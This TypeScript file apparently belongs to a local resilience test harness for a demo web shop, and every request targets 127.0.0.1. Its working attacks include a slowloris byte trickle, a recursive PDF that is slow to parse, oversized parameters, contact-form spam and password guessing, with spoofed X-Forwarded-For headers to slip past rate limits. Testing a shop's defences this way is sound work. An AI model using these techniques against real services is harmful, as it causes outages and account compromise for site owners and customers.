import { once } from 'node:events'
import { connect } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'

/** What an attacker has: the shop's port, and the cookie of one customer of the demo with a line in the cart. */
export type Target = { readonly port: number; readonly cookie: string; readonly lineId: string }

/** One thing that is done over and over, by many at once. */
export type Attack = {
  readonly name: string
  readonly connections: number
  readonly once: (target: Target, count: number) => Promise<unknown>
}

/** Each visitor comes from an address of his own, so that no limit per network ends the attack. */
const addressOf = (count: number) => `10.${(count >> 16) & 255}.${(count >> 8) & 255}.${count & 255}`

async function ask(
  { port }: Target,
  [method, path]: readonly [string, string],
  { count, cookie, body }: { readonly count: number; readonly cookie?: string; readonly body?: unknown },
): Promise<void> {
  const answer = await fetch(`http://127.0.0.1:${port}${path}`, {
    method,
    headers: {
      'x-forwarded-for': addressOf(count),
      ...(cookie && { cookie }),
      ...(body !== undefined && { 'content-type': 'application/json' }),
    },
    ...(body !== undefined && { body: JSON.stringify(body) }),
  })
  await answer.arrayBuffer()
}

const LONG = 'x'.repeat(1500)
const LINKS = 2000
const TRICKLE_MS = 1000
const DEEP = 17

/** A PDF of one page in which each of seventeen forms draws the next one twice: small, and slow to walk. */
function slowPdf(): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>',
    '<< /Length 5 >>\nstream\n/X Do\nendstream',
    ...Array.from({ length: DEEP }, (_, level) => {
      const content = level === DEEP - 1 ? '0 0 1 1 re f' : '/X Do /X Do'
      return `<< /Type /XObject /Subtype /Form /BBox [0 0 300 300] /Resources << /XObject << /X ${6 + level} 0 R >> >> /Length ${content.length} >>\nstream\n${content}\nendstream`
    }),
  ]
  const body = objects.map((object, at) => `${at + 1} 0 obj\n${object}\nendobj\n`).join('')
  return Buffer.from(`%PDF-1.7\n${body}trailer << /Root 1 0 R /Size ${objects.length + 1} >>\n%%EOF`)
}
const SLOW_PDF = slowPdf()

async function uploadSlowFile(target: Target): Promise<void> {
  const { port, cookie } = target
  const post = async (path: string, body: BodyInit | null, type: string) => {
    const answer = await fetch(`http://127.0.0.1:${port}${path}`, {
      method: 'POST',
      headers: { cookie, 'content-type': type },
      body,
    })
    const text = await answer.text()
    return answer.ok ? text : '{}'
  }
  const { uploadToken } = JSON.parse(await post('/api/customer/upload-token', '{}', 'application/json'))
  const processId = crypto.randomUUID()
  await post('/api/designs', JSON.stringify({ processId, fileName: 'traag.pdf' }), 'application/json')
  const query = new URLSearchParams({ token: String(uploadToken), 'process-id': processId })
  await post(`/upload?${query}`, new Uint8Array(SLOW_PDF), 'application/pdf')
  await delay(TRICKLE_MS)
}

/** Sends the head of a call and then a byte a second, until it is cut off. */
async function sendSlowly({ port }: Target, count: number): Promise<void> {
  const socket = connect({ host: '127.0.0.1', port })
  socket.on('error', () => undefined)
  const closed = once(socket, 'close')
  socket.write(
    `POST /api/products/calculate HTTP/1.1\r\nhost: 127.0.0.1:${port}\r\nx-forwarded-for: ${addressOf(count)}\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n`,
  )
  const trickle = setInterval(() => socket.write(' '), TRICKLE_MS)
  await closed
  clearInterval(trickle)
}

/** What was tried against the shop, and how often at once. */
export const ATTACKS: readonly Attack[] = [
  {
    name: 'unknown names in addresses',
    connections: 20,
    once: (target, count) => ask(target, ['GET', `/api/config?${count}=${LONG}`], { count }),
  },
  {
    name: 'unknown names in addresses of pages',
    connections: 10,
    once: (target, count) =>
      ask(target, ['GET', `/vlaggen-en-masten/mastvlaggen?${count}=${LONG}`], { count }),
  },
  {
    name: 'prices asked in ever other words',
    connections: 20,
    once: (target, count) =>
      ask(target, ['POST', '/api/products/calculate'], {
        count,
        body: { sku: 'SPD-510', quantity: (count % 9000) + 1, customOptions: [], [`x${count}`]: LONG },
      }),
  },
  {
    name: 'thousands of files linked to a line',
    connections: 20,
    once(target, count) {
      const designs = Array.from({ length: LINKS }, () => ({ designId: crypto.randomUUID(), quantity: 1 }))
      const { cookie, lineId } = target
      return ask(target, ['PUT', `/api/cart/items/designs/${lineId}`], { count, cookie, body: { designs } })
    },
  },
  {
    name: 'files that are slow to check',
    connections: 6,
    once: (target) => uploadSlowFile(target),
  },
  { name: 'bodies that trickle', connections: 200, once: sendSlowly },
  {
    name: 'messages to strangers',
    connections: 20,
    once: (target, count) =>
      ask(target, ['POST', '/api/contact'], {
        count,
        body: {
          name: 'Iemand',
          email: `vreemde-${count}@demo.example`,
          subject: 'Aanbieding',
          message: 'Koop nu.',
        },
      }),
  },
  {
    name: 'passwords guessed',
    connections: 50,
    once: (target, count) =>
      ask(target, ['POST', '/api/customer/login'], {
        count,
        body: { username: 'klant@demo.example', password: `raden-${count}` },
      }),
  },
]
